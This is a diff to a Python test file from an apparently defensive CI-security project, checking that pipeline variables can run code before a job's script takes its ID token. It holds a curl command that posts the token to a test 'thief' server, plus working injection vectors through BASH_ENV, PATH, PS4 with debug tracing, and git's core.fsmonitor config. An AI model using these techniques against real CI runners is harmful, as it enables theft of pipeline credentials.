@@ -2,8 +2,10 @@
 
 import itertools
 import json
+import os
 import re
 import shutil
+import subprocess
 from collections.abc import Iterator, Mapping
 from contextlib import ExitStack
 from dataclasses import dataclass, replace
@@ -315,7 +317,7 @@ def test_the_pages_say_what_a_job_cannot_prevent(page: str) -> None:
         assert f"`{name}`" in text, name
 
 
-@pytest.mark.parametrize("name", ["BASH_ENV", "PATH"])
+@pytest.mark.parametrize("name", ["BASH_ENV", "PATH", "CI_DEBUG_TRACE", "GIT_CONFIG_COUNT"])
 def test_what_acts_before_the_script_takes_the_token(tmp_path: Path, name: str) -> None:
     """If this test fails, the pages warn of something that no longer is so."""
     machine = Machine.with_shell("bash", tmp_path)
@@ -324,6 +326,24 @@ def test_what_acts_before_the_script_takes_the_token(tmp_path: Path, name: str) 
         steal.parent.mkdir()
         steal.write_text(f'#!/bin/sh\n{shutil.which("curl")} -qs --data "$SLUICEGATE_ID_TOKEN" {thief.url}\n')
         steal.chmod(0o755)
-        value = {"BASH_ENV": f"$({steal})", "PATH": f"{steal.parent}:/usr/bin:/bin"}[name]
-        machine.start(job(function=""), TOKEN, given=Variables(pipeline={name: value})).wait()
+        pipeline = {
+            "BASH_ENV": {"BASH_ENV": f"$({steal})"},
+            "PATH": {"PATH": f"{steal.parent}:/usr/bin:/bin"},
+            "CI_DEBUG_TRACE": {"CI_DEBUG_TRACE": "true", "PS4": f"$({steal})"},
+            "GIT_CONFIG_COUNT": {
+                "GIT_CONFIG_COUNT": "1",
+                "GIT_CONFIG_KEY_0": "core.fsmonitor",
+                "GIT_CONFIG_VALUE_0": str(steal),
+            },
+        }[name]
+        if name == "GIT_CONFIG_COUNT":
+            check_out(tmp_path / "checkout", {"SLUICEGATE_ID_TOKEN": TOKEN, **pipeline})
+        else:
+            machine.start(job(function=""), TOKEN, given=Variables(pipeline=pipeline)).wait()
         assert any(TOKEN in request for request in thief.received)
+
+
+def check_out(directory: Path, variables: dict[str, str]) -> None:
+    """As the runner's helper does, with the job's variables: gitlab-runner, shells/abstract.go."""
+    subprocess.run(["git", "init", "--quiet", directory], check=True)
+    subprocess.run(["git", "clean", "-ffdx"], cwd=directory, env={**os.environ, **variables}, check=True)
